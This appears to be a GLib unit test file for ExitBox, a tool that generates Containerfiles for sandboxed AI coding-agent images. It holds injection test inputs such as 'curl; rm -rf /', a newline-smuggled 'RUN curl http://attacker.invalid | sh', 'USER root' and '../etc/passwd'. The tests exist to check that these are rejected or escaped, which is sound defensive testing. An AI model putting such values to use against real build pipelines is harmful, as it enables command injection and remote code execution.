/* SPDX-License-Identifier: AGPL-3.0-or-later
 * SPDX-FileCopyrightText: The ExitBox authors
 */

#include <gio/gio.h>
#include <string.h>

#include "exitbox-catalogue.h"
#include "exitbox-containerfile.h"
#include "exitbox-test-utils.h"

#define VERSION_LABEL "exitbox.version=\"" PACKAGE_VERSION "\""

/* The first instruction line, which must be the FROM line. */
static char *
dup_first_instruction (const char *text)
{
  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);

  for (guint i = 0; lines[i] != NULL; i++)
    {
      if (lines[i][0] != '#' && lines[i][0] != '\0')
        return g_strdup (lines[i]);
    }

  return NULL;
}

/* Every @NAME@ placeholder must have been replaced. */
static void
assert_no_placeholder (const char *text)
{
  g_autoptr(GRegex) regex = g_regex_new ("@[A-Z_]+@", 0, 0, NULL);

  if (g_regex_match (regex, text, 0, NULL))
    g_error ("A placeholder was left in the Containerfile:\n%s", text);
}

static char *
render_base (ExitboxBaseFamily  family,
             const char        *from_image,
             guint              uid,
             guint              gid)
{
  ExitboxBaseLayerParams params = {
    .family = family,
    .from_image = from_image,
    .uid = uid,
    .gid = gid,
  };
  g_autoptr(GError) error = NULL;
  char *text;

  text = exitbox_containerfile_base (&params, &error);
  g_assert_no_error (error);
  g_assert_nonnull (text);

  return text;
}

static void
test_base_debian (void)
{
  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_DEBIAN, "debian:bookworm-slim", 1000, 1001);
  g_autofree char *from = dup_first_instruction (text);

  g_assert_cmpstr (from, ==, "FROM debian:bookworm-slim");
  assert_no_placeholder (text);

  exitbox_test_assert_contains (text, "apt-get update");
  exitbox_test_assert_contains (text,
                                "apt-get install -y --no-install-recommends ca-certificates "
                                "curl git less procps jq ripgrep tmux unzip xz-utils");
  exitbox_test_assert_contains (text, "rm -rf /var/lib/apt/lists/*");

  exitbox_test_assert_contains (text, "uid=1000; gid=1001;");
  exitbox_test_assert_contains (text, "groupadd -g \"$gid\" user");
  exitbox_test_assert_contains (text, "useradd -u \"$uid\" -g \"$group\" -d /home/user");
  exitbox_test_assert_contains (text, "userdel \"$name\"");
  exitbox_test_assert_contains (text, "getent group \"$gid\"");
  exitbox_test_assert_contains (text, "chown \"$uid:$gid\" /home/user /workspace");
  exitbox_test_assert_contains (text, "HOME=/home/user");
  exitbox_test_assert_contains (text, "LANG=C.UTF-8");

  exitbox_test_assert_contains (text, "COPY entrypoint.sh /usr/local/bin/exitbox-entrypoint");
  exitbox_test_assert_contains (text, "COPY exitbox-allow.sh /usr/local/bin/exitbox-allow");
  exitbox_test_assert_contains (text, "chmod 0755 /usr/local/bin/exitbox-entrypoint");
  exitbox_test_assert_contains (text, "ENTRYPOINT [\"/usr/local/bin/exitbox-entrypoint\"]");
  exitbox_test_assert_contains (text, "WORKDIR /workspace");

  exitbox_test_assert_contains (text, VERSION_LABEL);
  exitbox_test_assert_contains (text, "exitbox.base.image=\"debian:bookworm-slim\"");
  exitbox_test_assert_contains (text, "exitbox.base.family=\"debian\"");
  exitbox_test_assert_contains (text, "exitbox.uid=\"1000\"");
  exitbox_test_assert_contains (text, "exitbox.gid=\"1001\"");

  exitbox_test_assert_not_contains (text, "apk ");
}

/* The digest label changes when the template or the entrypoint changes, and
 * only then, so an unchanged base layer is reused.
 */
static void
test_base_digest (void)
{
  g_autofree char *debian = NULL;
  g_autofree char *debian_again = NULL;
  g_autofree char *alpine = NULL;
  g_autofree char *label = NULL;
  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_DEBIAN, "debian:bookworm-slim", 1000, 1001);
  g_autoptr(GError) error = NULL;

  debian = exitbox_containerfile_dup_base_digest (EXITBOX_BASE_FAMILY_DEBIAN, &error);
  g_assert_no_error (error);
  debian_again = exitbox_containerfile_dup_base_digest (EXITBOX_BASE_FAMILY_DEBIAN, &error);
  g_assert_no_error (error);
  alpine = exitbox_containerfile_dup_base_digest (EXITBOX_BASE_FAMILY_ALPINE, &error);
  g_assert_no_error (error);

  g_assert_cmpuint (strlen (debian), ==, 16);
  g_assert_cmpstr (debian, ==, debian_again);
  g_assert_cmpstr (debian, !=, alpine);

  label = g_strdup_printf ("exitbox.base.digest=\"%s\"", debian);
  exitbox_test_assert_contains (text, label);
}

static void
test_base_debian_local_image (void)
{
  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_DEBIAN,
                                       "localhost/exitbox-test-debian:bookworm", 1000, 1000);
  g_autofree char *from = dup_first_instruction (text);

  g_assert_cmpstr (from, ==, "FROM localhost/exitbox-test-debian:bookworm");
  exitbox_test_assert_contains (text,
                                "exitbox.base.image=\"localhost/exitbox-test-debian:bookworm\"");
}

static void
test_base_root_user (void)
{
  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_DEBIAN, "debian:bookworm-slim", 0, 0);

  /* The uid is tested when the image builds, so the text keeps the branch
   * that skips the account and still creates /home/user.
   */
  exitbox_test_assert_contains (text, "uid=0; gid=0;");
  exitbox_test_assert_contains (text, "if [ \"$uid\" -ne 0 ]; then");
  exitbox_test_assert_contains (text, "mkdir -p /home/user /workspace");
  exitbox_test_assert_contains (text, "exitbox.uid=\"0\"");
  exitbox_test_assert_contains (text, "exitbox.gid=\"0\"");
}

static void
test_base_alpine (void)
{
  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_ALPINE, "alpine:3.21", 1000, 1001);
  g_autofree char *from = dup_first_instruction (text);

  g_assert_cmpstr (from, ==, "FROM alpine:3.21");
  assert_no_placeholder (text);

  exitbox_test_assert_contains (text,
                                "apk add --no-cache ca-certificates curl git less procps jq "
                                "ripgrep tmux unzip xz");
  exitbox_test_assert_contains (text, "uid=1000; gid=1001;");
  exitbox_test_assert_contains (text, "addgroup -g \"$gid\" user");
  exitbox_test_assert_contains (text, "adduser -D -H -u \"$uid\" -G \"$group\" -h /home/user");
  exitbox_test_assert_contains (text, "deluser \"$name\"");
  exitbox_test_assert_contains (text, "chown \"$uid:$gid\" /home/user /workspace");
  exitbox_test_assert_contains (text, "HOME=/home/user");
  exitbox_test_assert_contains (text, "LANG=C.UTF-8");
  exitbox_test_assert_contains (text, "COPY entrypoint.sh /usr/local/bin/exitbox-entrypoint");
  exitbox_test_assert_contains (text, "COPY exitbox-allow.sh /usr/local/bin/exitbox-allow");
  exitbox_test_assert_contains (text, "ENTRYPOINT [\"/usr/local/bin/exitbox-entrypoint\"]");
  exitbox_test_assert_contains (text, "WORKDIR /workspace");

  exitbox_test_assert_contains (text, VERSION_LABEL);
  exitbox_test_assert_contains (text, "exitbox.base.image=\"alpine:3.21\"");
  exitbox_test_assert_contains (text, "exitbox.base.family=\"alpine\"");
  exitbox_test_assert_contains (text, "exitbox.uid=\"1000\"");
  exitbox_test_assert_contains (text, "exitbox.gid=\"1001\"");

  exitbox_test_assert_not_contains (text, "apt-get");
  exitbox_test_assert_not_contains (text, "useradd");
}

static void
test_core_layer (void)
{
  ExitboxCoreLayerParams params = {
    .family = EXITBOX_BASE_FAMILY_DEBIAN,
    .from_image = "exitbox-base",
    .from_image_id = "3f1c5e0a9b7d",
    .agent_id = "claude",
    .agent_version = "2.0.14",
    .binary_name = "claude",
    .command = "claude",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_core (&params, &error);
  g_autofree char *from = NULL;

  g_assert_no_error (error);
  from = dup_first_instruction (text);
  g_assert_cmpstr (from, ==, "FROM exitbox-base");
  assert_no_placeholder (text);

  exitbox_test_assert_contains (text, "COPY claude /usr/local/bin/claude");
  exitbox_test_assert_contains (text, "chown root:root /usr/local/bin/claude");
  exitbox_test_assert_contains (text, "chmod 0755 /usr/local/bin/claude");
  exitbox_test_assert_contains (text, "/usr/local/bin/claude --version");

  exitbox_test_assert_contains (text, VERSION_LABEL);
  exitbox_test_assert_contains (text, "exitbox.agent=\"claude\"");
  exitbox_test_assert_contains (text, "exitbox.agent.version=\"2.0.14\"");
  exitbox_test_assert_contains (text, "exitbox.parent=\"3f1c5e0a9b7d\"");
}

static void
test_core_binary_name (void)
{
  ExitboxCoreLayerParams params = {
    .family = EXITBOX_BASE_FAMILY_ALPINE,
    .from_image = "exitbox-base",
    .from_image_id = "abc",
    .agent_id = "codex",
    .agent_version = "0.5.0",
    .binary_name = "codex-x86_64-unknown-linux-musl",
    .command = "codex",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_core (&params, &error);

  g_assert_no_error (error);
  exitbox_test_assert_contains (text, "COPY codex-x86_64-unknown-linux-musl /usr/local/bin/codex");
  exitbox_test_assert_contains (text, "/usr/local/bin/codex --version");
  exitbox_test_assert_contains (text, "exitbox.agent=\"codex\"");
}

static void
test_core_archive (void)
{
  ExitboxCoreLayerParams params = {
    .family = EXITBOX_BASE_FAMILY_DEBIAN,
    .from_image = "exitbox-base",
    .from_image_id = "abc",
    .agent_id = "opencode",
    .agent_version = "0.15.3",
    .binary_name = "opencode-linux-x64.tar.gz",
    .command = "opencode",
    .archive_member = "opencode",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_core (&params, &error);
  g_autofree char *rejected = NULL;

  g_assert_no_error (error);
  assert_no_placeholder (text);
  exitbox_test_assert_contains (text, "COPY opencode-linux-x64.tar.gz /tmp/exitbox-agent.tar.gz\n");
  exitbox_test_assert_contains (text, "tar -xzf /tmp/exitbox-agent.tar.gz -C /tmp/exitbox-agent");
  exitbox_test_assert_contains (text, "install -o root -g root -m 0755 /tmp/exitbox-agent/opencode "
                                      "/usr/local/bin/opencode");
  exitbox_test_assert_contains (text, "rm -rf /tmp/exitbox-agent /tmp/exitbox-agent.tar.gz");
  g_assert_true (strstr (text, "install -o root") < strstr (text, "/usr/local/bin/opencode --version"));

  /* The member goes into a RUN line, so a path or shell text is rejected. */
  params.archive_member = "../etc/passwd";
  rejected = exitbox_containerfile_core (&params, &error);
  g_assert_null (rejected);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
  exitbox_test_assert_contains (error->message, "archive member");
}

static void
test_project_layer (void)
{
  ExitboxProjectLayerParams params = {
    .from_image = "exitbox-claude-core",
    .from_image_id = "77aa00",
    .project_key = "home_user_src_app_1a2b3c4d",
    .profiles_hash = "e3b0c44298fc1c14",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_project (&params, &error);
  g_autofree char *from = NULL;

  g_assert_no_error (error);
  from = dup_first_instruction (text);
  g_assert_cmpstr (from, ==, "FROM exitbox-claude-core");
  assert_no_placeholder (text);

  exitbox_test_assert_contains (text, VERSION_LABEL);
  exitbox_test_assert_contains (text, "exitbox.project=\"home_user_src_app_1a2b3c4d\"");
  exitbox_test_assert_contains (text, "exitbox.parent=\"77aa00\"");
  exitbox_test_assert_contains (text, "exitbox.profiles.hash=\"e3b0c44298fc1c14\"");
  exitbox_test_assert_contains (text, "exitbox.tools.hash=\"\"");
  g_assert_null (strstr (text, "RUN "));
}

/* Every profile of the catalogue, for both families: the project layer
 * installs each of its packages with the family's package manager. A
 * profile without packages for a family must name a download instead.
 */
static void
test_project_every_profile (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(ExitboxCatalogue) catalogue = exitbox_catalogue_load_default (&error);
  g_auto(GStrv) profiles = NULL;
  const ExitboxBaseFamily families[] = { EXITBOX_BASE_FAMILY_DEBIAN, EXITBOX_BASE_FAMILY_ALPINE };

  g_assert_no_error (error);
  profiles = exitbox_catalogue_dup_ids (catalogue, EXITBOX_CATALOGUE_PROFILE);
  g_assert_cmpuint (g_strv_length (profiles), ==, 17);

  for (guint f = 0; f < G_N_ELEMENTS (families); f++)
    {
      for (guint i = 0; profiles[i] != NULL; i++)
        {
          g_auto(GStrv) packages = exitbox_catalogue_dup_packages (catalogue, profiles[i],
                                                                   families[f], &error);
          g_auto(GStrv) downloads = exitbox_catalogue_dup_downloads (catalogue, profiles[i]);
          ExitboxProjectLayerParams params = {
            .from_image = "exitbox-claude-core",
            .from_image_id = "77aa00",
            .project_key = "home_user_src_app_1a2b3c4d",
            .profiles_hash = "0123456789abcdef",
            .tools_hash = "fedcba9876543210",
            .family = families[f],
          };
          g_autofree char *text = NULL;

          g_test_message ("profile %s, family %s", profiles[i],
                          exitbox_base_family_to_string (families[f]));
          g_assert_no_error (error);

          if (packages[0] == NULL)
            {
              g_assert_nonnull (downloads);
              g_assert_nonnull (downloads[0]);
              continue;
            }

          params.packages = (const char * const *) packages;
          text = exitbox_containerfile_project (&params, &error);
          g_assert_no_error (error);
          assert_no_placeholder (text);
          exitbox_test_assert_contains (text, "exitbox.tools.hash=\"fedcba9876543210\"");

          if (families[f] == EXITBOX_BASE_FAMILY_ALPINE)
            {
              exitbox_test_assert_contains (text, "RUN apk add --no-cache \\\n");
              g_assert_null (strstr (text, "apt-get"));
            }
          else
            {
              exitbox_test_assert_contains (text, "apt-get install -y --no-install-recommends \\\n");
              g_assert_null (strstr (text, "apk add"));
            }

          for (guint j = 0; packages[j] != NULL; j++)
            {
              g_autofree char *line = g_strdup_printf ("\n      %s", packages[j]);

              exitbox_test_assert_contains (text, line);
            }
        }
    }
}

/* Every downloaded tool, for both families: its verified file is copied in
 * from the build context and installed where its PATH entry points.
 */
static void
test_project_tool_downloads (void)
{
  const ExitboxBaseFamily families[] = { EXITBOX_BASE_FAMILY_DEBIAN, EXITBOX_BASE_FAMILY_ALPINE };

  for (guint f = 0; f < G_N_ELEMENTS (families); f++)
    {
      ExitboxProjectLayerParams params = {
        .from_image = "exitbox-claude-core",
        .from_image_id = "77aa00",
        .project_key = "home_user_src_app_1a2b3c4d",
        .profiles_hash = "0123456789abcdef",
        .family = families[f],
        .uid = 1000,
        .gid = 1001,
        .go_archive = "go1.23.4.linux-amd64.tar.gz",
        .golangci_lint_archive = "golangci-lint-1.64.8-linux-amd64.tar.gz",
        .kubectl_binary = "kubectl",
        .helm_archive = "helm-v3.16.2-linux-amd64.tar.gz",
        .opentofu_archive = "tofu_1.8.5_linux_amd64.tar.gz",
        .docker_compose_binary = "docker-compose-linux-x86_64",
        .gradle_archive = "gradle-8.10.2-bin.zip",
        .rustup_init = "rustup-init",
      };
      g_autoptr(GError) error = NULL;
      g_autofree char *text = NULL;

      g_test_message ("family %s", exitbox_base_family_to_string (families[f]));
      text = exitbox_containerfile_project (&params, &error);
      g_assert_no_error (error);
      assert_no_placeholder (text);

      exitbox_test_assert_contains (text, "COPY kubectl /tmp/exitbox-kubectl\n");
      exitbox_test_assert_contains (text, "/tmp/exitbox-kubectl /usr/local/bin/kubectl");
      exitbox_test_assert_contains (text, "COPY helm-v3.16.2-linux-amd64.tar.gz /tmp/exitbox-helm\n");
      exitbox_test_assert_contains (text, "/tmp/exitbox-helm.d/linux-*/helm /usr/local/bin/helm");
      exitbox_test_assert_contains (text, "COPY tofu_1.8.5_linux_amd64.tar.gz /tmp/exitbox-tofu\n");
      exitbox_test_assert_contains (text, "/tmp/exitbox-tofu.d/tofu /usr/local/bin/tofu");
      exitbox_test_assert_contains (text, "COPY docker-compose-linux-x86_64 /tmp/exitbox-docker-compose\n");
      exitbox_test_assert_contains (text, "/usr/local/lib/docker/cli-plugins/docker-compose");
      exitbox_test_assert_contains (text, "/usr/local/bin/docker-compose");
      exitbox_test_assert_contains (text, "COPY gradle-8.10.2-bin.zip /tmp/exitbox-gradle\n");
      exitbox_test_assert_contains (text, "mv /tmp/exitbox-gradle.d/gradle-* /opt/gradle");
      exitbox_test_assert_contains (text, "ENV PATH=/opt/gradle/bin:$PATH\n");
      exitbox_test_assert_contains (text, "COPY rustup-init /tmp/exitbox-rustup\n");
      exitbox_test_assert_contains (text, "--profile minimal --default-toolchain stable");
      exitbox_test_assert_contains (text, "chown -R 1000:1001 /opt/rustup /opt/cargo");
      exitbox_test_assert_contains (text, "PATH=/opt/cargo/bin:$PATH\n");
      exitbox_test_assert_contains (text, "ENV PATH=/usr/local/go/bin:");
      exitbox_test_assert_contains (text, "/usr/local/bin/golangci-lint");
      g_assert_null (strstr (text, "flutter"));
    }
}

static void
test_project_flutter (void)
{
  ExitboxProjectLayerParams params = {
    .from_image = "exitbox-claude-core",
    .from_image_id = "77aa00",
    .project_key = "home_user_src_app_1a2b3c4d",
    .profiles_hash = "0123456789abcdef",
    .family = EXITBOX_BASE_FAMILY_DEBIAN,
    .uid = 1000,
    .gid = 1000,
    .flutter_archive = "flutter_linux_3.24.3-stable.tar.xz",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  g_autofree char *alpine_text = NULL;

  text = exitbox_containerfile_project (&params, &error);
  g_assert_no_error (error);
  exitbox_test_assert_contains (text, "COPY flutter_linux_3.24.3-stable.tar.xz /tmp/exitbox-flutter\n");
  exitbox_test_assert_contains (text, "tar -xJf /tmp/exitbox-flutter -C /opt");
  exitbox_test_assert_contains (text, "chown -R 1000:1000 /opt/flutter");
  exitbox_test_assert_contains (text, "ENV PATH=/opt/flutter/bin:$PATH\n");

  /* Flutter is linked against glibc. */
  params.family = EXITBOX_BASE_FAMILY_ALPINE;
  alpine_text = exitbox_containerfile_project (&params, &error);
  g_assert_null (alpine_text);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_SUPPORTED);
  exitbox_test_assert_contains (error->message, "alpine");
}

static void
test_project_tool_file_rejected (void)
{
  ExitboxProjectLayerParams params = {
    .from_image = "exitbox-claude-core",
    .from_image_id = "77aa00",
    .project_key = "home_user_src_app_1a2b3c4d",
    .profiles_hash = "0123456789abcdef",
    .kubectl_binary = "kubectl /etc/passwd",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_project (&params, &error);

  g_assert_null (text);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
  exitbox_test_assert_contains (error->message, "kubectl /etc/passwd");
}

static void
test_project_python_node (void)
{
  const char * const packages[] = { "python3", "python3-venv", "nodejs", "npm", NULL };
  ExitboxProjectLayerParams params = {
    .from_image = "exitbox-claude-core",
    .from_image_id = "77aa00",
    .project_key = "home_user_src_app_1a2b3c4d",
    .profiles_hash = "0123456789abcdef",
    .tools_hash = "fedcba9876543210",
    .packages = packages,
    .python_venv = TRUE,
    .node_tools = TRUE,
    .uid = 1000,
    .gid = 1001,
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_project (&params, &error);

  g_assert_no_error (error);
  exitbox_test_assert_contains (text, "RUN python3 -m venv /opt/venv");
  exitbox_test_assert_contains (text, "chown -R 1000:1001 /opt/venv");
  exitbox_test_assert_contains (text, "PATH=/opt/venv/bin:$PATH");
  exitbox_test_assert_contains (text, "NPM_CONFIG_PREFIX=/home/user/.npm-global");
  exitbox_test_assert_contains (text, "PATH=/home/user/.npm-global/bin:$PATH");
  g_assert_true (strstr (text, "apt-get install") < strstr (text, "python3 -m venv"));
}

static void
test_project_package_rejected (void)
{
  const char * const bad_names[] = { "curl; rm -rf /", "Vim", "-y", "a b", "pkg\\nRUN x", "" };

  for (guint i = 0; i < G_N_ELEMENTS (bad_names); i++)
    {
      const char * const packages[] = { "git", bad_names[i], NULL };
      ExitboxProjectLayerParams params = {
        .from_image = "exitbox-claude-core",
        .project_key = "home_user_src_app_1a2b3c4d",
        .packages = packages,
      };
      g_autoptr(GError) error = NULL;
      g_autofree char *text = exitbox_containerfile_project (&params, &error);

      g_assert_null (text);
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
      exitbox_test_assert_contains (error->message, "package name");
    }

  g_assert_true (exitbox_containerfile_check_package_name ("g++", NULL));
  g_assert_true (exitbox_containerfile_check_package_name ("libstdc++6", NULL));
  g_assert_true (exitbox_containerfile_check_package_name ("py3_pip", NULL));
}

static void
test_proxy_debian (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_proxy (EXITBOX_BASE_FAMILY_DEBIAN,
                                                       "debian:bookworm-slim", &error);
  g_autofree char *from = NULL;

  g_assert_no_error (error);
  from = dup_first_instruction (text);
  g_assert_cmpstr (from, ==, "FROM debian:bookworm-slim");
  assert_no_placeholder (text);

  exitbox_test_assert_contains (text, "apt-get install -y --no-install-recommends squid");
  exitbox_test_assert_contains (text, "mkdir -p /etc/exitbox-proxy /var/log/squid");
  exitbox_test_assert_contains (text, "chown proxy:proxy /etc/exitbox-proxy /var/log/squid");
  exitbox_test_assert_contains (text,
                                "CMD [\"squid\", \"-N\", \"-f\", "
                                "\"/etc/exitbox-proxy/squid.conf\"]");
  exitbox_test_assert_contains (text, VERSION_LABEL);
  exitbox_test_assert_contains (text, "exitbox.base.image=\"debian:bookworm-slim\"");
  exitbox_test_assert_not_contains (text, "apk ");
}

static void
test_proxy_alpine (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_proxy (EXITBOX_BASE_FAMILY_ALPINE,
                                                       "alpine:3.21", &error);
  g_autofree char *from = NULL;

  g_assert_no_error (error);
  from = dup_first_instruction (text);
  g_assert_cmpstr (from, ==, "FROM alpine:3.21");
  assert_no_placeholder (text);

  exitbox_test_assert_contains (text, "apk add --no-cache squid");
  exitbox_test_assert_contains (text, "chown squid:squid /etc/exitbox-proxy /var/log/squid");
  exitbox_test_assert_contains (text,
                                "CMD [\"squid\", \"-N\", \"-f\", "
                                "\"/etc/exitbox-proxy/squid.conf\"]");
  exitbox_test_assert_contains (text, VERSION_LABEL);
  exitbox_test_assert_contains (text, "exitbox.base.image=\"alpine:3.21\"");
  exitbox_test_assert_not_contains (text, "apt-get");
}

static void
test_label_escaped (void)
{
  ExitboxCoreLayerParams params = {
    .family = EXITBOX_BASE_FAMILY_DEBIAN,
    .from_image = "exitbox-base",
    .from_image_id = "abc",
    .agent_id = "claude",
    .agent_version = "1\" evil=\"$HOME\\",
    .binary_name = "claude",
    .command = "claude",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *text = exitbox_containerfile_core (&params, &error);

  g_assert_no_error (error);
  exitbox_test_assert_contains (text, "exitbox.agent.version=\"1\\\" evil=\\\"\\$HOME\\\\\"");
  exitbox_test_assert_not_contains (text, "evil=\"$HOME");
}

static void
test_label_newline_rejected (void)
{
  ExitboxCoreLayerParams core = {
    .family = EXITBOX_BASE_FAMILY_DEBIAN,
    .from_image = "exitbox-base",
    .from_image_id = "abc",
    .agent_id = "claude",
    .agent_version = "1.0\nRUN curl http://attacker.invalid | sh",
    .binary_name = "claude",
    .command = "claude",
  };
  ExitboxProjectLayerParams project = {
    .from_image = "exitbox-claude-core",
    .from_image_id = "abc",
    .project_key = "key\r\nUSER root",
    .profiles_hash = "e3b0c44298fc1c14",
  };
  g_autoptr(GError) core_error = NULL;
  g_autoptr(GError) project_error = NULL;
  g_autofree char *core_text = NULL;
  g_autofree char *project_text = NULL;

  core_text = exitbox_containerfile_core (&core, &core_error);
  g_assert_null (core_text);
  g_assert_error (core_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
  g_assert_nonnull (strstr (core_error->message, "exitbox.agent.version"));

  project_text = exitbox_containerfile_project (&project, &project_error);
  g_assert_null (project_text);
  g_assert_error (project_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
  g_assert_nonnull (strstr (project_error->message, "exitbox.project"));
}

static void
test_from_image_rejected (void)
{
  const char *images[] = {
    "debian:bookworm-slim\nRUN id",
    "debian:bookworm-slim\n",
    "debian bookworm",
    "\"debian\"",
    "",
    NULL,
  };

  for (guint i = 0; i < G_N_ELEMENTS (images); i++)
    {
      ExitboxBaseLayerParams params = {
        .family = EXITBOX_BASE_FAMILY_DEBIAN,
        .from_image = images[i],
        .uid = 1000,
        .gid = 1000,
      };
      g_autoptr(GError) base_error = NULL;
      g_autoptr(GError) proxy_error = NULL;
      g_autofree char *base_text = NULL;
      g_autofree char *proxy_text = NULL;

      g_test_message ("image %u: %s", i, images[i] != NULL ? images[i] : "(null)");

      base_text = exitbox_containerfile_base (&params, &base_error);
      g_assert_null (base_text);
      g_assert_error (base_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);

      proxy_text = exitbox_containerfile_proxy (EXITBOX_BASE_FAMILY_DEBIAN, images[i], &proxy_error);
      g_assert_null (proxy_text);
      g_assert_error (proxy_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
    }
}

static void
test_command_rejected (void)
{
  const char *commands[] = {
    "claude; rm -rf /",
    "../claude",
    "-rf",
    "clau*",
    NULL,
  };

  for (guint i = 0; i < G_N_ELEMENTS (commands); i++)
    {
      ExitboxCoreLayerParams params = {
        .family = EXITBOX_BASE_FAMILY_DEBIAN,
        .from_image = "exitbox-base",
        .from_image_id = "abc",
        .agent_id = "claude",
        .agent_version = "1.0.0",
        .binary_name = "claude",
        .command = commands[i],
      };
      g_autoptr(GError) error = NULL;
      g_autofree char *text = NULL;

      g_test_message ("command %u: %s", i, commands[i] != NULL ? commands[i] : "(null)");
      text = exitbox_containerfile_core (&params, &error);
      g_assert_null (text);
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
    }
}

static void
test_entrypoint_resource (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = exitbox_containerfile_get_entrypoint (&error);
  g_autofree char *source_path = g_test_build_filename (G_TEST_DIST, "..", "data", "core",
                                                        "entrypoint.sh", NULL);
  g_autofree char *source = NULL;
  gsize source_length;

  g_assert_no_error (error);
  g_assert_nonnull (bytes);

  g_file_get_contents (source_path, &source, &source_length, &error);
  g_assert_no_error (error);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
                   source, source_length);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/containerfile/base/debian", test_base_debian);
  g_test_add_func ("/containerfile/base/digest", test_base_digest);
  g_test_add_func ("/containerfile/base/debian-local-image", test_base_debian_local_image);
  g_test_add_func ("/containerfile/base/root-user", test_base_root_user);
  g_test_add_func ("/containerfile/base/alpine", test_base_alpine);
  g_test_add_func ("/containerfile/core/layer", test_core_layer);
  g_test_add_func ("/containerfile/core/binary-name", test_core_binary_name);
  g_test_add_func ("/containerfile/core/archive", test_core_archive);
  g_test_add_func ("/containerfile/project/layer", test_project_layer);
  g_test_add_func ("/containerfile/project/every-profile", test_project_every_profile);
  g_test_add_func ("/containerfile/project/tool-downloads", test_project_tool_downloads);
  g_test_add_func ("/containerfile/project/flutter", test_project_flutter);
  g_test_add_func ("/containerfile/project/tool-file-rejected", test_project_tool_file_rejected);
  g_test_add_func ("/containerfile/project/python-node", test_project_python_node);
  g_test_add_func ("/containerfile/project/package-rejected", test_project_package_rejected);
  g_test_add_func ("/containerfile/proxy/debian", test_proxy_debian);
  g_test_add_func ("/containerfile/proxy/alpine", test_proxy_alpine);
  g_test_add_func ("/containerfile/label/escaped", test_label_escaped);
  g_test_add_func ("/containerfile/label/newline-rejected", test_label_newline_rejected);
  g_test_add_func ("/containerfile/from-image/rejected", test_from_image_rejected);
  g_test_add_func ("/containerfile/command/rejected", test_command_rejected);
  g_test_add_func ("/containerfile/entrypoint/resource", test_entrypoint_resource);

  return g_test_run ();
}
